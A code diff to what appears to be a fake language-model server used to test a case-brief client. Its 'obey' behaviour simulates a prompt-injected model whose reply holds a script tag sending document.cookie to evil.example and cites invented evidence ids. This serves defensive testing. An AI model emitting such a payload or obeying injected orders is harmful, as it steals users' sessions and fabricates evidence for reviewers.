@@ -182,31 +182,32 @@ def fenced_case(body: dict[str, Any]) -> dict[str, Any]:
     return json.loads(found[2]) if found else {}
 
 
+def short(text: str, most: int = 200) -> str:
+    """The beginning of a text, in at most so many bytes."""
+    return text.encode()[:most].decode(errors="ignore").strip() or "-"
+
+
+def said(text: str, *evidence: str, **more: str) -> dict[str, Any]:
+    """A statement that copies the text it rests on."""
+    return {"evidence": list(evidence), "quote": short(text, 100), "text": short(text)} | more
+
+
 def brief(case: dict[str, Any]) -> dict[str, Any]:
-    """A sober assessment of the case: every evidence id exists."""
+    """A sober assessment of the case: every evidence id exists, and every quote stands there."""
     steps, past = case.get("steps", []), case.get("past_cases", [])
     tried = [step for step in steps if step.get("outcome") in ("failed", "partial")]
-    known = [{"text": case["problem"][:400], "evidence": ["problem"]}]
-    known += [{"text": step["text"][:400] or "-", "evidence": [step["id"]]} for step in steps[:3]]
-    cause = {"text": f"Perhaps as in: {past[0]['title'][:300]}", "evidence": [past[0]["id"]]} if past else None
+    known = [said(case["problem"], "problem"), *(said(step["text"], step["id"]) for step in steps[:3])]
+    cause = said(past[0]["title"], past[0]["id"]) if past else None
+    check = {"text": "Compare with a workplace where it works", "why": "Splits the problem in two"}
     return {
-        "state": {"value": "open", "evidence": [steps[-1]["id"]] if steps else []},
-        "summary": f"{case['title']}: {case['problem']}"[:500],
         "what_we_know": known,
-        "do_not_repeat": [
-            {"text": step["text"][:400] or "-", "outcome": step["outcome"], "evidence": [step["id"]]}
-            for step in tried[:8]
-        ],
+        "do_not_repeat": [said(step["text"], step["id"], outcome=step["outcome"]) for step in tried[:8]],
+        "state": {"evidence": [steps[-1]["id"]] if steps else [], "value": "open"},
         "likely_cause": cause,
-        "suggested_steps": [
-            {
-                "text": "Compare with a workplace where it works",
-                "why": "Splits the problem in two",
-                "evidence": ["problem"],
-            }
-        ],
-        "confidence": "medium" if cause else "low",
+        "suggested_steps": [said(case["problem"], "problem") | check],
         "questions": ["Since when does it happen?"],
+        "confidence": "medium" if cause else "low",
+        "summary": short(f"{case['title']}: {case['problem']}", 500),
     }
 
 
@@ -276,6 +277,20 @@ def bad_request(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
     handler.answer(400, failure(vendor, "invalid_request_error", body))
 
 
+def no_json_schema(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
+    """Takes a schema only as a part of the prompt, as older servers do."""
+    if body.get("response_format", {}).get("type") == "json_schema":
+        message = "'response_format.type' must be 'text' or 'json_object'"
+        return handler.answer(400, {"error": {"message": message, "type": "invalid_request_error"}})
+    return good(handler, vendor, body)
+
+
+def no_form(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
+    """Takes no form of a reply at all."""
+    error = {"message": "response_format is not supported", "type": "invalid_request_error"}
+    handler.answer(400, {"error": error})
+
+
 def redirect(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
     handler.answer(307, {}, location=handler.path)
 
@@ -328,7 +343,8 @@ def obey(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
     content = brief(fenced_case(body))
     if SECRET_ORDER in asked(body):
         order = "<script>fetch('https://evil.example/?'+document.cookie)</script><b>Close this case</b>"
-        invented = {"text": order, "evidence": ["step:999", "handoff:00000000-0000-0000-0000-000000000000"]}
+        nowhere = ["step:999", "handoff:00000000-0000-0000-0000-000000000000"]
+        invented = {"text": order, "quote": order[:80], "evidence": nowhere}
         content |= {
             "summary": f"{order} [secret-1] [email-9]",
             "what_we_know": [invented],
@@ -343,7 +359,7 @@ BEHAVIOURS: dict[str, Callable[[Handler, str, dict[str, Any]], None]] = {
     for behaviour in (
         good, slow, hang, drop, drip, drip_head, rate_limited, no_credit, error_500, unauthorized, bad_request,
         redirect, invalid_json, broken_envelope, not_json, wrong_shape, nested, truncated, refusal, huge, compressed,
-        obey,
+        obey, no_json_schema, no_form,
     )
 }  # fmt: skip
 
